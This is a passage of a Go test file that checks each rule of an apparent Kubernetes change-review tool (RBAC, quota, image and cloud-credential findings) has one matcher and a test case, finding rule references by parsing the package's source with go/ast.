		"unknown": true, "object-blocked": true, "object-replaced": true, "object-deleted": true, "object-adopted": true,
		"field-conflict": true, "hot-fix-overwritten": true, "replicas-reset": true, "object-kept": true, "image-not-listed": true, "rbac-dead-rule": true, "rbac-configmaps-system": true,
		"quota-refused": true, "quota-unread": true, "image-platform": true, "nodes-unread": true, "image-moved": true, "access-reach-unread": true,
		"content-unread": true, "protection-weakened": true, "unknown-kind": true, "rbac-unknown-kind": true, "rbac-own-orders-write": true,
		"rbac-leases-own": true, "ca-changed": true, "cloud-static-credentials": true, "cloud-access-widened": true, "cloud-credentials-mode": true,
	}
	for _, test := range grantCases {
		tested[test.rule] = true
	}
	for _, test := range objectCases {
		tested[test.rule] = true
	}
	matched := map[string]bool{}
	for _, e := range table() {
		if matched[e.Name] {
			t.Errorf("rule %s has two matchers", e.Name)
		}
		matched[e.Name] = true
	}
	seen := map[string]bool{}
	for _, rule := range raised(t) {
		if !tested[rule.Name] {
			t.Errorf("rule %s has no case", rule.Name)
		}
		seen[rule.Name] = true
		if rule.Title == "" || !strings.HasSuffix(rule.Why, ".") || strings.ToLower(rule.Name) != rule.Name {
			t.Errorf("rule %s: title %q, why %q", rule.Name, rule.Title, rule.Why)
		}
	}
	for rule := range tested {
		if !seen[rule] {
			t.Errorf("a case for %s, which is no rule", rule)
		}
	}
}

// raised are the rules that the files of this package, and those of neighbors, name
// as rules.NAME, but for that of a note.
func raised(t *testing.T) []rules.Rule {
	t.Helper()
	files, err := filepath.Glob("*.go")
	more, _ := filepath.Glob(filepath.Join("neighbors", "*.go"))
	if files = append(files, more...); err != nil || len(more) == 0 {
		t.Fatal(err)
	}
	named := map[string]bool{}
	for _, path := range files {
		if strings.HasSuffix(path, "_test.go") {
			continue
		}
		file, err := parser.ParseFile(token.NewFileSet(), path, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		ast.Inspect(file, func(n ast.Node) bool {
			if s, ok := n.(*ast.SelectorExpr); ok {
				if pkg, ok := s.X.(*ast.Ident); ok && pkg.Name == "rules" {
					named[strings.ToLower(s.Sel.Name)] = true
				}
			}
			return true
		})
	}
	return slices.DeleteFunc(rules.All(), func(r rules.Rule) bool {
		return !named[strings.ReplaceAll(r.Name, "-", "")] || r.Name == rules.ImagePinned.Name
	})
}

func contains(list []string, s string) bool {
	for _, item := range list {
		if item == s {
			return true
		}
	}
	return false
}

func ids(findings []preview.Finding) []string {
	var out []string
	for _, f := range findings {
		out = append(out, string(f.Severity)+" "+f.ID)
	}
	return out
}
